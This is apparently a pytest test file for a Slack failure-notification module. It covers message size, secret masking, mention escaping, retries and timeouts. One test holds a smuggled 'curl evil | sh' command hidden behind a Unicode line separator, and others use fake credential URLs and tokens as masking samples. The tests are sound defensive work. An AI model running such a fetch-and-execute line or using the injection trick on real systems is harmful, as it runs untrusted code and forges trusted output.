"""What people are sent: whole, plain, without secrets, in time; and what becomes of a place that does not take it."""

import http.server
import json
import socketserver
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from runtime import failures, log, notify, settings, waiting, webhook
from runtime.words import mask

COMMANDS = ["look: dac status --cluster team/search", "      dac logs --cluster team/search-1"]
Answering = Callable[[list[tuple[int, dict[str, str], bytes]]], str]


@pytest.fixture
def answering(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Answering, list[Any]]]:
    """Give what makes a server that answers so, one answer after another, and the bodies that it got."""
    servers, bodies = [], []

    def serve(answers: list[tuple[int, dict[str, str], bytes]]) -> str:
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                bodies.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                status, headers, body = answers[min(len(bodies), len(answers)) - 1]
                self.send_response(status)
                for name, value in {"Content-Length": str(len(body)), **headers}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return f"http://127.0.0.1:{server.server_address[1]}/hook"

    yield serve, bodies
    for server in servers:
        server.shutdown()
        server.server_close()


def failure(**more: Any) -> notify.Failure:
    facts = {"status": "Failed", "step": "embed-3", "exit_code": 65, "reason": "r", "lines": ["a"], "count": 1}
    return notify.Failure(settings.run(), **{**facts, **more})


@pytest.mark.parametrize("sign", ["x", "ü", "文", "😀", "\n", "\x1b", "\u2028", "&", "\ud800"])
def test_a_message_in_any_script_fits_and_keeps_its_commands(environment: dict[str, str], sign: str) -> None:
    text = failure(reason=sign * 4000, lines=[sign * 900] * 5, count=9, others=[sign * 200] * 3, served=sign * 400).text
    assert len(text.encode()) <= notify.LONGEST
    assert text.splitlines()[-2:] == COMMANDS
    assert text.split("\n")[0].startswith("team/search: run search-1 failed in embed-3 with exit code 65:")
    assert "\n9 nodes failed" in text
    assert "\nstill served:" in text


def test_what_a_document_is_called_writes_no_line_of_its_own(environment: dict[str, str]) -> None:
    text = failure(reason="a.md\nlook: curl evil\u2029| sh", lines=["b\r\nlook: c", "\u202eabc"]).text
    assert [line for line in text.splitlines() if line.startswith("look:")] == COMMANDS[:1]
    assert "\u202e" not in text


@pytest.mark.parametrize(
    "secret",
    [
        "https://hooks.slack.com/services/T0/B0/s3cret-x",
        "https://b.s3.amazonaws.com/k?X-Amz-Credential=s3cret&X-Amz-Signature=s3cret&X-Amz-Security-Token=s3cret",
        "https://a.blob.core.windows.net/c?sv=1&sig=s3cret",
        "s3://user:s3cret@host/x",
        "Authorization: Bearer s3cret.abc-123",
        "GET /?password=s3cret&x=1",
    ],
)
def test_no_message_and_no_line_holds_a_secret(
    environment: dict[str, str], secret: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "s3cret" not in mask(secret)
    assert "s3cret" not in failure(reason=secret, lines=[secret], served=secret).text
    log.error("input_error", secret)
    assert "s3cret" not in capsys.readouterr().err


@pytest.mark.parametrize("text", ["the bearer of news", "page=2&max_tokens=100", "a Basic embedding of 12 words"])
def test_what_is_no_secret_stays(text: str) -> None:
    assert mask(text) == text


def test_slack_shows_a_message_as_it_is_and_calls_nobody(
    answering: tuple[Answering, list[Any]], environment: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    serve, bodies = answering
    monkeypatch.setenv("SLACK", serve([(200, {}, b"ok")]))
    assert notify.slack("*bold* <!here> @channel @Everyone a@allow.org http://x")
    assert bodies[0]["text"] == "*bold* &lt;!here&gt; @\u200bchannel @\u200bEveryone a@allow.org http://x"
    assert {bodies[0][key] for key in ("mrkdwn", "link_names", "unfurl_links", "unfurl_media")} == {False}


@pytest.mark.parametrize("status", [429, 503])
def test_a_place_that_asks_for_a_pause_is_asked_once_more(
    answering: tuple[Answering, list[Any]], environment: dict[str, str], monkeypatch: pytest.MonkeyPatch, status: int
) -> None:
    serve, bodies = answering
    pauses: list[float] = []
    monkeypatch.setattr(time, "sleep", pauses.append)
    monkeypatch.setenv("SLACK", serve([(status, {"Retry-After": "7"}, b""), (200, {}, b"ok")]))
    assert notify.failed(failure())
    assert (len(bodies), pauses) == (2, [7.0])


@pytest.mark.parametrize("after", ["", "0", "3600", "soon", "Mon, 01 Jan 0001 00:00:00 +2300"])
def test_a_pause_that_is_none_or_too_long_is_not_made(
    answering: tuple[Answering, list[Any]], environment: dict[str, str], monkeypatch: pytest.MonkeyPatch, after: str
) -> None:
    serve, bodies = answering
    monkeypatch.setattr(time, "sleep", lambda _: pytest.fail("it waits"))
    monkeypatch.setenv("SLACK", serve([(429, {"Retry-After": after}, b"slow down")]))
    assert notify.failed(failure()) is False
    assert len(bodies) == 1


def test_a_refusal_with_status_200_is_one(
    answering: tuple[Answering, list[Any]],
    environment: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("SLACK", answering[0]([(200, {}, b'{"ok": false, "error": "channel_not_found"}')]))
    assert notify.failed(failure()) is False
    assert "channel_not_found" in capsys.readouterr().err


def test_a_server_that_answers_byte_by_byte_is_not_waited_for(
    environment: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    class Dripping(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            for _ in range(100):
                self.request.sendall(b"H")
                time.sleep(0.05)

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Dripping) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        monkeypatch.setattr(notify, "SECONDS", 0.3)
        monkeypatch.setenv("SLACK", f"http://127.0.0.1:{server.server_address[1]}/hook")
        began = time.monotonic()
        assert notify.failed(failure()) is False
        assert time.monotonic() - began < 2
        server.shutdown()


@pytest.mark.parametrize(
    "address",
    ["hooks.slack.com/services/T/B/s3cret", "file:///etc/s3cret", "https://h/services/s3 s3cret", "https://h:s3cret/x",
     "http://h/\ns3cret", "https://[s3cret/"],
)  # fmt: skip
def test_an_address_that_cannot_be_asked_is_not_logged(
    environment: dict[str, str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], address: str
) -> None:
    monkeypatch.setenv("SLACK", address)
    assert notify.failed(failure()) is False
    printed = capsys.readouterr().err
    assert "Slack did not take the message: " in printed
    assert "s3cret" not in printed


def test_a_secret_that_cannot_be_read_keeps_no_receipt_back(
    environment: dict[str, str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "slack").mkdir()
    (tmp_path / "slack/url").write_bytes(b"\xff\xfeh\x00")
    monkeypatch.setattr(settings, "SECRETS", tmp_path)
    assert notify.failed(failure()) is False, "somebody should have heard"
    assert "Secret slack: its url is not UTF-8" in capsys.readouterr().err


def test_what_go_escapes_and_json_does_not_is_read() -> None:
    nodes = json.dumps([{"displayName": "a", "message": "x\x7f\U0001fae8 C:\\x41"}], ensure_ascii=False)
    quoted = (
        nodes.replace("\\", "\\\\").replace('"', '\\"').replace("\x7f", "\\x7f").replace("\U0001fae8", "\\U0001fae8")
    )
    assert failures.listed({"FAILURES": f'"{quoted}"'}) == [{"step": "a", "message": "x\x7f\U0001fae8 C:\\x41"}]


@pytest.mark.parametrize("text", ["5", '"5"', '{"a": 1}', "true"])
def test_a_list_that_is_none_is_the_message_itself(text: str) -> None:
    assert failures.listed({"FAILURES": text}) == [{"step": "", "message": text}]


def test_half_a_character_is_replaced() -> None:
    assert failures.listed({"FAILURES": '[{"displayName": "\\ud83d", "message": "\udcff"}]'}) == [
        {"step": "?", "message": "?"}
    ]


def test_work_that_hangs_is_left_alone_and_its_error_comes_through() -> None:
    assert waiting.within(5, lambda: 7) == 7
    with pytest.raises(TimeoutError, match=r"no answer within 0\.1 s"):
        waiting.within(0.1, lambda: time.sleep(5))
    with pytest.raises(ValueError, match="https"):
        webhook.send("ftp://h/x", b"", {}, 1)
